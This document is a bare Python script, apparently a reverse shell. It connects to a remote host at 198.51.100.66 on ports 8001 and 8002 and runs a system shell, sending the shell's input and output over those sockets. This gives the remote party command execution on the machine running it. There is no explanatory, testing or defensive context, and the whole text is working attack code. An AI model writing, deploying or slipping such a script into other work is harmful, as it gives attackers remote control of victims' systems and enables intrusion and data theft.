import socket
import subprocess
import threading

host = "198.51.100.66"
inp = socket.create_connection((host, 8001))
outp = socket.create_connection((host, 8002))
sh = subprocess.Popen(["sh"], stdin=inp.fileno(), stdout=outp.fileno(), stderr=outp.fileno())
threading.Thread(target=sh.wait).start()
